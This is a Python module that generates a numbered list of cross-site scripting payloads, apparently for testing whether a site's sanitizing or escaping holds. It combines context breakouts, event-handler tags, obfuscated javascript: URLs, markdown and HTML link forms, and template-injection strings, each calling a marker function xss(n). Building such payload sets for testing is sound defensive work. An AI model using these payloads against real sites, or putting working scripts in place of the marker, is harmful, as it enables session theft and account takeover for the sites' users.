"""Texts that would run a script where somebody forgot to escape them: by context, by element and by event, each with a number."""

from collections.abc import Iterator

ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "iframe src=x", "object data=x", "input autofocus",
            "details open", "marquee", "style", "select autofocus", "textarea autofocus", "a href=# id=x tabindex=1", "embed src=x")  # fmt: skip
EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onbegin",
    "onanimationstart",
    "onclick",
    "onpointerenter",
    "oncut",
)
BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "</svg>", "</select>", "`>")  # fmt: skip
ADDRESSES = (
    "javascript:xss({n})", "JaVaScRiPt:xss({n})", " javascript:xss({n})", "java\tscript:xss({n})", "javascript&colon;xss({n})",
    "&#106;avascript:xss({n})", "vbscript:xss({n})", "data:text/html,<script>xss({n})</script>", "//evil.example/{n}",
    "javascript://%0axss({n})", "\x01javascript:xss({n})", "blob:xss({n})",
)  # fmt: skip
LINKS = (
    "[x]({to})", "![x]({to})", "<{to}>", "[x]: {to}\n[x]", '<a href="{to}">x</a>', "<a href='{to}'>x</a>", '<form action="{to}"><button>x</button></form>',
    '<iframe src="{to}"></iframe>', '<object data="{to}"></object>', '<svg><a xlink:href="{to}"><text>x</text></a></svg>',
    '[x](x "{to}")', '<meta http-equiv="refresh" content="0;url={to}">', '<base href="{to}">', '<link rel="stylesheet" href="{to}">',
)  # fmt: skip
WHOLE = (
    "<script>xss({n})</script>", "<ScRiPt>xss({n})</sCrIpT>", "<script src=data:text/javascript,xss({n})></script>", "<<script>xss({n})//<</script>",
    "<svg><script>xss({n})</script></svg>", "<math><mi xlink:href='javascript:xss({n})'>x</mi></math>", "{{{{constructor.constructor('xss({n})')()}}}}",
    "${{xss({n})}}", "{{%xss({n})%}}", "\\u003cscript\\u003exss({n})\\u003c/script\\u003e", "&lt;script&gt;xss({n})&lt;/script&gt;",
    "<style>@import 'javascript:xss({n})';</style>", "<div style=\"background:url(javascript:xss({n}))\">x</div>", '" onfocus="xss({n})" autofocus="',
    "' onfocus='xss({n})' autofocus='", "x onfocus=xss({n}) autofocus", "`${{xss({n})}}`", "*/xss({n})/*", "';xss({n});//", '";xss({n});//',
    "<noscript><p title=\"</noscript><img src=x onerror=xss({n})>\">", "<template><img src=x onerror=xss({n})></template>",
    "<!--><img src=x onerror=xss({n})>-->", "<img src=x onerror=\u2028xss({n})>", "<x contenteditable onblur=xss({n})>x</x>",
    "**<img src=x onerror=xss({n})>**", "`<img src=x onerror=xss({n})>`", "> <svg onload=xss({n})>", "- <svg onload=xss({n})>",
    "| a |\n|---|\n| <svg onload=xss({n})> |", "[^1]: <svg onload=xss({n})>", "```<svg onload=xss({n})>\nx\n```",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, numbered in order."""
    return [text.format(n=number) if "{n}" in text else text for number, text in enumerate(_patterns())]


def _patterns() -> Iterator[str]:
    yield from WHOLE
    for link in LINKS:
        for address in ADDRESSES:
            yield link.format(to=address)
    for number, element in enumerate(ELEMENTS):
        for place, event in enumerate(EVENTS):
            yield f"{BREAKS[(number + place) % len(BREAKS)]}<{element} {event}=xss({{n}})>"
    for edge in BREAKS:
        for element in ("<img src=x onerror=xss({n})>", "<svg/onload=xss({n})>", "<script>xss({n})</script>",
                        "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>", "<video><source onerror=xss({n})></video>",
                        "<iframe srcdoc='<script>parent.xss({n})</script>'></iframe>", "<img src=x:x onerror\n=\nxss({n})>",
                        "<IMG SRC=x ONERROR=xss&#40;{n}&#41;>", "<a href=javascript:xss({n}) autofocus onfocus=xss({n})>x</a>",
                        "<button formaction=javascript:xss({n})>x</button>", "<keygen autofocus onfocus=xss({n})>", "<isindex action=javascript:xss({n})>"):  # fmt: skip
            yield f"{edge}{element}"
